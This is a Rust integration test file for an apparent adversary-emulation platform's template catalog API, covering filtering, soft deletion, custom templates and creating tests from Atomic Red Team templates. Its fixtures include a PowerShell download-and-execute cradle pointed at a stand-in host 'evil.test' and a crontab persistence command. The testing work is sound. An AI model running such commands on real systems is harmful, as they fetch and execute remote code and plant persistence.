//! The test template catalog through the API: listing with filters, detail, and soft
//! deletion, on templates imported from Atomic Red Team.
use crate::common::{TestApp, json_body};
use crate::on_both_backends;
use app::server::importers::atomics::import::AtomicRedTeam;
use app::server::importers::{Input, SourceFile, no_progress, run};
use app::server::platform::context::Actor;
use serde_json::{Value, json};

on_both_backends!(
    the_catalog_lists_filters_and_deactivates_templates,
    admins_write_custom_templates_and_local_fields,
    tests_start_from_templates,
);

const BUNDLE: &str = include_str!("../fixtures/attack-mini.json");

const POWERSHELL: &str = r#"attack_technique: T1059.001
display_name: PowerShell
atomic_tests:
- name: Download cradle
  auto_generated_guid: f3132740-55bc-48c4-bcc0-758a459cd027
  description: Downloads and runs a script.
  supported_platforms: [windows]
  input_arguments:
    url:
      description: Where from
      type: url
      default: https://example.test/a.ps1
  dependency_executor_name: powershell
  dependencies:
  - description: Module present
    prereq_command: Test-Path x
    get_prereq_command: New-Item x
  executor:
    name: powershell
    command: IEX (iwr '#{url}')
    cleanup_command: Remove-Item x
    elevation_required: true
"#;

const FUTURE: &str = r#"attack_technique: T9999
display_name: Not in ATT&CK yet
atomic_tests:
- name: By hand
  auto_generated_guid: 0b1e6b8c-2b9e-4d7a-9f55-6b7f0f3b2a11
  description: Follow the steps.
  supported_platforms: [linux]
  executor:
    name: manual
    steps: 1. ls
"#;

async fn total(app: &TestApp, token: &str, query: &str) -> u64 {
    let response = app
        .get(&format!("/api/v1/test-templates{query}"), token)
        .await;
    assert_eq!(response.status(), 200, "{query}");
    json_body(response).await["total"].as_u64().unwrap()
}

async fn the_catalog_lists_filters_and_deactivates_templates(app: TestApp) -> TestApp {
    let admin = app.admin_token().await;
    assert_eq!(
        app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
            .await
            .status(),
        200
    );
    let db = app.database().await;
    let files = [
        ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
        ("atomics/T9999/T9999.yaml", FUTURE),
    ]
    .into_iter()
    .map(|(path, text)| SourceFile {
        path: path.to_owned(),
        text: text.to_owned(),
    })
    .collect();
    let report = run::<AtomicRedTeam>(
        &db,
        &Actor::system("test"),
        Input::Files(files),
        "test",
        &no_progress,
    )
    .await
    .unwrap();
    assert_eq!(report.added, 2);
    assert_eq!(report.unknown_techniques, ["T9999"]);
    db.close().await.unwrap();

    app.create_user(&admin, "vic", "viewer", "viewer-password-1")
        .await;
    let viewer = app.login("vic", "viewer-password-1").await;

    let page = json_body(app.get("/api/v1/test-templates", &viewer).await).await;
    assert_eq!(page["total"], 2);
    assert_eq!(page["limit"], 50);
    let cradle = &page["items"][0];
    assert_eq!(cradle["technique_id"], "T1059.001");
    assert_eq!(cradle["technique_known"], true);
    assert_eq!(cradle["source"], "atomic_red_team");
    assert_eq!(
        cradle["external_id"],
        "f3132740-55bc-48c4-bcc0-758a459cd027"
    );
    assert_eq!(cradle["platforms"], json!(["windows"]));
    assert_eq!(cradle["severity"], "medium");
    assert_eq!(
        page["items"][1]["technique_known"], false,
        "flagged, not dropped"
    );

    for (query, expected) in [
        ("?platform=Windows", 1),
        ("?platform=linux", 1),
        ("?platform=macos", 0),
        ("?source=atomic_red_team", 2),
        ("?source=custom", 0),
        ("?severity=medium", 2),
        ("?search=CRADLE", 1),
        ("?search=t9999", 1),
        ("?mitre_technique_id=t1059.001", 1),
        ("?limit=1&offset=1", 2),
    ] {
        assert_eq!(total(&app, &viewer, query).await, expected, "{query}");
    }
    let second = json_body(
        app.get("/api/v1/test-templates?limit=1&offset=1", &viewer)
            .await,
    )
    .await;
    assert_eq!(second["items"][0]["technique_id"], "T9999");
    for (query, field) in [
        ("?source=github", "source"),
        ("?severity=urgent", "severity"),
        ("?limit=0", "limit"),
    ] {
        let response = app
            .get(&format!("/api/v1/test-templates{query}"), &viewer)
            .await;
        assert_eq!(response.status(), 422, "{query}");
        assert!(
            json_body(response).await["fields"][field].is_string(),
            "{query}"
        );
    }

    let id = cradle["id"].as_str().unwrap().to_owned();
    let detail = json_body(
        app.get(&format!("/api/v1/test-templates/{id}"), &viewer)
            .await,
    )
    .await;
    assert_eq!(detail["command"], "IEX (iwr '#{url}')");
    assert_eq!(detail["cleanup_command"], "Remove-Item x");
    assert_eq!(detail["elevation_required"], true);
    assert_eq!(detail["input_arguments"][0]["type"], "url");
    assert_eq!(
        detail["input_arguments"][0]["default"],
        "https://example.test/a.ps1"
    );
    assert_eq!(
        detail["dependencies"][0]["get_prereq_command"],
        "New-Item x"
    );
    assert_eq!(detail["dependency_executor_name"], "powershell");
    assert_eq!(
        app.get(
            &format!("/api/v1/test-templates/{}", uuid::Uuid::new_v4()),
            &viewer
        )
        .await
        .status(),
        404
    );

    // Deleting deactivates: admins still see it and can bring it back; others no longer do.
    assert_eq!(
        app.delete(&format!("/api/v1/test-templates/{id}"), &viewer)
            .await
            .status(),
        403
    );
    let response = app
        .delete(&format!("/api/v1/test-templates/{id}"), &admin)
        .await;
    assert_eq!(response.status(), 200);
    assert_eq!(json_body(response).await["is_active"], false);
    assert_eq!(total(&app, &viewer, "").await, 1);
    assert_eq!(total(&app, &viewer, "?include_inactive=true").await, 1);
    assert_eq!(total(&app, &admin, "?include_inactive=true").await, 2);
    assert_eq!(
        app.get(&format!("/api/v1/test-templates/{id}"), &viewer)
            .await
            .status(),
        404
    );
    let response = app
        .post(
            &format!("/api/v1/test-templates/{id}/toggle-active"),
            &admin,
        )
        .await;
    assert_eq!(response.status(), 200);
    assert_eq!(json_body(response).await["is_active"], true);
    assert_eq!(total(&app, &viewer, "").await, 2);
    assert_eq!(
        app.post(
            &format!("/api/v1/test-templates/{id}/toggle-active"),
            &viewer
        )
        .await
        .status(),
        403
    );

    let stats = app.get("/api/v1/test-templates/stats", &admin).await;
    assert_eq!(stats.status(), 200);
    let stats = json_body(stats).await;
    assert_eq!(stats["total"], 2);
    assert_eq!(stats["active"], 2);
    assert_eq!(stats["by_source"], json!({ "atomic_red_team": 2 }));
    assert_eq!(stats["by_platform"], json!({ "linux": 1, "windows": 1 }));
    assert_eq!(stats["by_severity"], json!({ "medium": 2 }));
    assert_eq!(stats["by_tactic"], json!({ "execution": 1 }));
    assert_eq!(stats["techniques_with_templates"], 1);
    assert_eq!(stats["unknown_technique_templates"], 1);
    assert_eq!(
        app.get("/api/v1/test-templates/stats", &viewer)
            .await
            .status(),
        403
    );

    let audit: Value = json_body(
        app.get("/api/v1/audit-logs?entity_type=test_template", &admin)
            .await,
    )
    .await;
    let actions: Vec<&str> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "template.activate",
            "template.deactivate",
            "templates.import"
        ]
    );
    app
}

async fn admins_write_custom_templates_and_local_fields(app: TestApp) -> TestApp {
    let admin = app.admin_token().await;
    app.import_bundle(&admin, "bundle.json", BUNDLE.as_bytes().to_vec())
        .await;
    let body = json!({
        "technique_id": "t1059.001",
        "name": "  In-house PowerShell cradle ",
        "platforms": ["Windows", "windows"],
        "executor_name": "PowerShell",
        "command": "iwr #{url}",
        "input_arguments": [{ "name": "url", "type": "url", "default": "https://x.test" }],
        "expected_detection": "EDR alert on script block logging",
        "suggested_tools": ["PowerShell", " "],
        "severity": "high",
        "remediation_steps": ["Enable AMSI", "Constrained language mode"]
    });
    let response = app
        .post_json("/api/v1/test-templates", &admin, body.clone())
        .await;
    assert_eq!(response.status(), 201);
    let created = json_body(response).await;
    assert_eq!(created["source"], "custom");
    assert_eq!(created["technique_id"], "T1059.001");
    assert_eq!(created["name"], "In-house PowerShell cradle");
    assert_eq!(created["platforms"], json!(["windows"]));
    assert_eq!(created["executor_name"], "powershell");
    assert_eq!(created["suggested_tools"], json!(["PowerShell"]));
    assert_eq!(created["severity"], "high");
    assert_eq!(created["input_arguments"][0]["type"], "url");
    let id = created["id"].as_str().unwrap().to_owned();

    let response = app
        .post_json(
            "/api/v1/test-templates",
            &admin,
            json!({ "technique_id": "T4242", "name": "", "executor_name": "cmd.exe", "severity": "urgent",
                    "input_arguments": [{ "name": "a b" }] }),
        )
        .await;
    assert_eq!(response.status(), 422);
    let fields = json_body(response).await["fields"].clone();
    for field in [
        "technique_id",
        "name",
        "executor_name",
        "severity",
        "input_arguments",
    ] {
        assert!(fields[field].is_string(), "{field}: {fields}");
    }
    let response = app
        .post_json(
            "/api/v1/test-templates",
            &admin,
            json!({ "name": "x", "technique_id": "T1059", "colour": 1 }),
        )
        .await;
    assert!(matches!(response.status().as_u16(), 400 | 422));
    app.create_user(&admin, "lea", "red_lead", "red-lead-password-1")
        .await;
    let lead = app.login("lea", "red-lead-password-1").await;
    assert_eq!(
        app.post_json("/api/v1/test-templates", &lead, body)
            .await
            .status(),
        403
    );

    let response = app
        .patch_json(
            &format!("/api/v1/test-templates/{id}"),
            &admin,
            json!({ "name": "Cradle v2", "severity": "critical", "platforms": [] }),
        )
        .await;
    assert_eq!(response.status(), 200);
    let edited = json_body(response).await;
    assert_eq!(edited["name"], "Cradle v2");
    assert_eq!(edited["severity"], "critical");
    assert_eq!(edited["platforms"], json!([]));
    assert_eq!(
        app.patch_json(&format!("/api/v1/test-templates/{id}"), &admin, json!({}))
            .await
            .status(),
        400
    );
    assert_eq!(
        app.patch_json(
            &format!("/api/v1/test-templates/{id}"),
            &lead,
            json!({ "severity": "low" })
        )
        .await
        .status(),
        403
    );

    // An imported template: local fields change and survive a re-import; the rest is the import's.
    let db = app.database().await;
    let file = || {
        vec![SourceFile {
            path: "atomics/T1059.001/T1059.001.yaml".into(),
            text: POWERSHELL.into(),
        }]
    };
    run::<AtomicRedTeam>(
        &db,
        &Actor::system("test"),
        Input::Files(file()),
        "test",
        &no_progress,
    )
    .await
    .unwrap();
    let page = json_body(
        app.get("/api/v1/test-templates?source=atomic_red_team", &admin)
            .await,
    )
    .await;
    let atomic = page["items"][0]["id"].as_str().unwrap().to_owned();
    let response = app
        .patch_json(
            &format!("/api/v1/test-templates/{atomic}"),
            &admin,
            json!({ "severity": "low", "expected_detection": "Sysmon 1", "remediation_steps": ["Block iwr"] }),
        )
        .await;
    assert_eq!(response.status(), 200);
    let response = app
        .patch_json(
            &format!("/api/v1/test-templates/{atomic}"),
            &admin,
            json!({ "command": "whoami" }),
        )
        .await;
    assert_eq!(response.status(), 422);
    assert!(json_body(response).await["fields"]["command"].is_string());
    let changed_upstream = POWERSHELL.replace("IEX (iwr '#{url}')", "IEX (irm '#{url}')");
    let report = run::<AtomicRedTeam>(
        &db,
        &Actor::system("test"),
        Input::Files(vec![SourceFile {
            path: "atomics/T1059.001/T1059.001.yaml".into(),
            text: changed_upstream,
        }]),
        "test",
        &no_progress,
    )
    .await
    .unwrap();
    assert_eq!(report.updated, 1);
    db.close().await.unwrap();
    let detail = json_body(
        app.get(&format!("/api/v1/test-templates/{atomic}"), &admin)
            .await,
    )
    .await;
    assert_eq!(
        detail["command"], "IEX (irm '#{url}')",
        "upstream change applied"
    );
    assert_eq!(detail["severity"], "low", "local fields kept");
    assert_eq!(detail["expected_detection"], "Sysmon 1");
    assert_eq!(detail["remediation_steps"], json!(["Block iwr"]));

    let audit = json_body(
        app.get("/api/v1/audit-logs?entity_type=test_template", &admin)
            .await,
    )
    .await;
    let actions: Vec<&str> = audit["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["action"].as_str().unwrap())
        .collect();
    assert_eq!(
        actions,
        [
            "templates.import",
            "template.update",
            "templates.import",
            "template.update",
            "template.create"
        ]
    );
    app
}

async fn tests_start_from_templates(app: TestApp) -> TestApp {
    let crew = crate::workflow::Crew::hire(&app).await;
    let db = app.database().await;
    let files = [
        ("atomics/T1059.001/T1059.001.yaml", POWERSHELL),
        ("atomics/T9999/T9999.yaml", FUTURE),
    ]
    .into_iter()
    .map(|(path, text)| SourceFile {
        path: path.to_owned(),
        text: text.to_owned(),
    })
    .collect();
    run::<AtomicRedTeam>(
        &db,
        &Actor::system("test"),
        Input::Files(files),
        "test",
        &no_progress,
    )
    .await
    .unwrap();
    db.close().await.unwrap();
    let page = json_body(app.get("/api/v1/test-templates", &crew.viewer).await).await;
    let id_of = |technique: &str| {
        page["items"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["technique_id"] == technique)
            .unwrap()["id"]
            .as_str()
            .unwrap()
            .to_owned()
    };
    let cradle = id_of("T1059.001");

    // A red tech instantiates it, giving one input argument.
    let response = app
        .post_json(
            "/api/v1/tests/from-template",
            &crew.red_tech,
            json!({"template_id": cradle, "input_arguments": {"url": "https://evil.test/x.ps1"}}),
        )
        .await;
    assert_eq!(response.status(), 201);
    let test = json_body(response).await;
    assert_eq!(test["state"], "draft");
    assert_eq!(test["title"], "Download cradle");
    assert_eq!(test["technique_id"], "T1059.001");
    assert_eq!(test["template_id"], cradle.as_str());
    assert_eq!(test["platform"], "windows");
    assert_eq!(
        test["command_executed"],
        "IEX (iwr 'https://evil.test/x.ps1')"
    );
    assert_eq!(
        test["procedure"],
        "# executor: powershell (elevation required)\nIEX (iwr 'https://evil.test/x.ps1')\n\n# cleanup\nRemove-Item x"
    );
    assert_eq!(test["description"], "Downloads and runs a script.");
    // Defaults fill what is not given.
    let defaults = json_body(
        app.post_json(
            "/api/v1/tests/from-template",
            &crew.red_lead,
            json!({"template_id": cradle, "title": "Cradle, defaults", "severity": "critical"}),
        )
        .await,
    )
    .await;
    assert_eq!(
        defaults["command_executed"],
        "IEX (iwr 'https://example.test/a.ps1')"
    );
    assert_eq!(defaults["severity"], "critical");
    assert_eq!(defaults["title"], "Cradle, defaults");
    let timeline = json_body(
        app.get(
            &format!(
                "/api/v1/tests/{}/timeline",
                defaults["id"].as_str().unwrap()
            ),
            &crew.viewer,
        )
        .await,
    )
    .await;
    assert_eq!(timeline[0]["details"]["template_id"], cradle.as_str());

    // Refusals: unknown argument, unknown technique, roles, missing and inactive templates.
    let response = app
        .post_json(
            "/api/v1/tests/from-template",
            &crew.red_tech,
            json!({"template_id": cradle, "input_arguments": {"nope": "x"}}),
        )
        .await;
    assert_eq!(response.status(), 422);
    assert!(json_body(response).await["fields"]["input_arguments.nope"].is_string());
    let response = app
        .post_json(
            "/api/v1/tests/from-template",
            &crew.red_tech,
            json!({"template_id": id_of("T9999")}),
        )
        .await;
    assert_eq!(response.status(), 422);
    assert!(json_body(response).await["fields"]["technique_id"].is_string());
    for token in [&crew.blue_tech, &crew.viewer] {
        let response = app
            .post_json(
                "/api/v1/tests/from-template",
                token,
                json!({"template_id": cradle}),
            )
            .await;
        assert_eq!(response.status(), 403);
    }
    let response = app
        .post_json(
            "/api/v1/tests/from-template",
            &crew.red_tech,
            json!({"template_id": uuid::Uuid::new_v4()}),
        )
        .await;
    assert_eq!(response.status(), 404);
    assert_eq!(
        app.post(
            &format!("/api/v1/test-templates/{cradle}/toggle-active"),
            &crew.admin
        )
        .await
        .status(),
        200
    );
    let response = app
        .post_json(
            "/api/v1/tests/from-template",
            &crew.red_tech,
            json!({"template_id": cradle}),
        )
        .await;
    assert_eq!(response.status(), 409);

    // A custom template's suggested remediation becomes the test's first steps.
    let custom = json_body(
        app.post_json(
            "/api/v1/test-templates",
            &crew.admin,
            json!({
                "technique_id": "T1053",
                "name": "Cron persistence",
                "command": "echo '* * * * * /tmp/x' | crontab -",
                "suggested_tools": ["crontab"],
                "expected_detection": "auditd rule on crontab",
                "remediation_steps": ["Alert on crontab edits", "Restrict cron to admins"]
            }),
        )
        .await,
    )
    .await;
    let test = json_body(
        app.post_json(
            "/api/v1/tests/from-template",
            &crew.red_tech,
            json!({"template_id": custom["id"]}),
        )
        .await,
    )
    .await;
    assert_eq!(test["suggested_tools"], json!(["crontab"]));
    assert_eq!(test["expected_detection"], "auditd rule on crontab");
    let steps: Vec<&str> = test["remediation_steps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["title"].as_str().unwrap())
        .collect();
    assert_eq!(
        steps,
        vec!["Alert on crontab edits", "Restrict cron to admins"]
    );
    assert_eq!(test["procedure"], "echo '* * * * * /tmp/x' | crontab -");
    app
}
